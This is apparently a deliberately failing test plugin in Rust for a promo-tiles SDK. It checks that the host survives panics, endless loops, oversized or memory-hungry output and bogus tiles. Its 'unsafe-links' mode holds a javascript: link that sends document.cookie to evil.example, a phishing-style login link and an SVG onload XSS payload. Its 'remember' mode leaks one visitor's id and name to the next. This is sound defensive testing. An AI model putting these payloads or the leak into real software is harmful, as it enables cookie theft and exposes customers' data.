//! A promo-tiles plugin that fails the way its `mode` parameter says: `panic`, `loop`
//! (until the deadline), `bogus` (a tile for an offer it was not given), `huge` (a tile
//! over the 64 KiB output limit) or `grow` (memory past the cap). The tile endpoint must
//! answer every one with the slot's fallback tiles, never a 5xx. In `unsafe-links` it
//! answers with one tile per offer, linking in turn to `javascript:`, to a
//! protocol-relative `//evil.example`, to a `data:` image, and to the offer's own link:
//! only the last may reach the page. In `remember` it keeps the visitor's id and first name
//! in a static and shows the previous visitor's in its tile: wherever an instance outlives
//! a call, one customer sees another's name.
#![no_std]
use core::cell::RefCell;

use rekindle_sdk::prelude::*;

/// What `remember` keeps between calls, if anything lets it.
struct Remembered(RefCell<String>);

// SAFETY: a wasm32 plugin instance runs on one thread.
unsafe impl Sync for Remembered {}

static LAST_VISITOR: Remembered = Remembered(RefCell::new(String::new()));

fn tile(offer: &Offer, title: String) -> Tile {
    Tile {
        offer_id: offer.id.clone(),
        title,
        body: offer.body.clone(),
        image: None,
        link: offer.link.clone(),
        voucher: None,
        score: 0.0,
        reason: String::new(),
    }
}

struct Failing;

impl Tiles for Failing {
    fn describe() -> TilesInfo {
        TilesInfo::new("hostile-tiles", "0.0.0", "fails on purpose")
            .param(ParamSpec::text("mode", "panic", "panic, loop, bogus, huge, grow, remember or unsafe-links"))
            .reads(InputQuery::new().trait_("first_name"))
    }

    fn decide(ctx: &Context, request: &TileRequest, profile: Option<&Profile>, offers: &[Offer]) -> Result<Vec<Tile>, String> {
        match ctx.text("mode")? {
            "remember" => {
                let current = match profile {
                    Some(p) => format!("{} {}", p.id, p.trait_text("first_name").unwrap_or("")),
                    None => String::from("nobody"),
                };
                let previous = core::mem::replace(&mut *LAST_VISITOR.0.borrow_mut(), current);
                Ok(offers.iter().take(1).map(|o| tile(o, format!("last visitor: {previous}"))).collect())
            }
            "huge" => Ok(offers.iter().take(1).map(|o| tile(o, "x".repeat(70 << 10))).collect()),
            "grow" => {
                let hoard: Vec<u8> = core::hint::black_box(Vec::with_capacity(40 << 20));
                Ok(offers.iter().take(1).map(|o| tile(o, format!("{}", hoard.capacity()))).collect())
            }
            "unsafe-links" => Ok(offers
                .iter()
                .take(request.max_tiles as usize)
                .enumerate()
                .map(|(i, offer)| {
                    let (link, image) = match i % 4 {
                        0 => ("javascript:fetch('https://evil.example/?c='+document.cookie)".to_string(), None),
                        1 => ("//evil.example/login".to_string(), None),
                        2 => (offer.link.clone(), Some("data:image/svg+xml,<svg onload=alert(1)>".to_string())),
                        _ => (offer.link.clone(), offer.image.clone()),
                    };
                    Tile {
                        offer_id: offer.id.clone(),
                        title: offer.title.clone(),
                        body: offer.body.clone(),
                        image,
                        link,
                        voucher: None,
                        score: 0.0,
                        reason: String::new(),
                    }
                })
                .collect()),
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = core::hint::black_box(n.wrapping_add(1));
                }
            }
            "bogus" => Ok(vec![Tile {
                offer_id: "not-a-candidate".into(),
                title: String::new(),
                body: String::new(),
                image: None,
                link: "/".into(),
                voucher: None,
                score: 0.0,
                reason: String::new(),
            }]),
            _ => panic!("no tiles today"),
        }
    }
}

rekindle_sdk::export_tiles!(Failing);
